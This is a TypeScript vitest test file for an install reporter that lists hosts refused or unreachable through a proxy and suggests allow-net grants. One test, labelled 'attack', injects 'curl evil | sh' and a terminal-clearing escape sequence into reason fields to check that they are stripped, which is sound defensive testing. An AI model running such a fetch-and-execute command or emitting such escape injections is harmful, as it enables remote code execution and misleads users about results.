import { describe, expect, it } from 'vitest';
import { InstallReport } from './install-report.js';

const deny = (host: string, port: number, reason: string) =>
  ({ type: 'proxy', decision: 'deny', method: 'CONNECT', host, port, reason }) as const;

describe('the hosts an install was refused, and the granted ones it could not reach', () => {
  it('suggests a flag only for a host not granted; a granted host that failed says why instead', () => {
    const report = new InstallReport();
    report.event(deny('cdn.example.com', 443, 'cannot resolve: ENOTFOUND'));
    report.event(deny('other.example.com', 443, 'not granted'));
    report.event(
      deny('intranet.example.com', 443, 'resolves to 10.0.0.5 (private network); grant it as an explicit IP'),
    );
    report.event({
      type: 'egress-failed',
      host: 'slow.example.com',
      port: 443,
      via: 'proxy',
      reason: 'ETIMEDOUT',
    });
    const hosts = report.hosts([
      'registry.example:443',
      'cdn.example.com',
      'intranet.example.com',
      'slow.example.com',
    ]);
    expect(hosts.refused).toEqual(['other.example.com:443']);
    expect(hosts.grants).toEqual(['other.example.com']);
    expect(hosts.unreachable).toEqual([
      'cdn.example.com: does not resolve from this host (ENOTFOUND)',
      'intranet.example.com: resolves to 10.0.0.5, which the address rules refuse (grant that address itself if you mean it: --install-allow-net 10.0.0.5)',
      'slow.example.com: connecting failed (ETIMEDOUT)',
    ]);
  });

  it('never suggests again a host already granted, compared as parsed hosts', () => {
    const report = new InstallReport();
    report.event(deny('cdn.example.com', 443, 'not granted'));
    report.event(deny('cdn.example.com', 8443, 'not granted'));
    const hosts = report.hosts(['CDN.Example.com.:443']);
    expect(hosts.grants).toEqual(['cdn.example.com:8443']);
    expect(hosts.unreachable).toEqual(['cdn.example.com: refused by the proxy on port 443']);
  });

  it('attack: a reason carrying text of its own is not shown', () => {
    const report = new InstallReport();
    report.event(deny('a.example.com', 443, 'cannot resolve: x; curl evil | sh'));
    report.event({ type: 'egress-failed', host: 'b.example.com', port: 443, reason: '\u001b[2J all fine' });
    expect(report.hosts([]).unreachable).toEqual([
      'a.example.com: does not resolve from this host',
      'b.example.com: connecting failed',
    ]);
  });
});
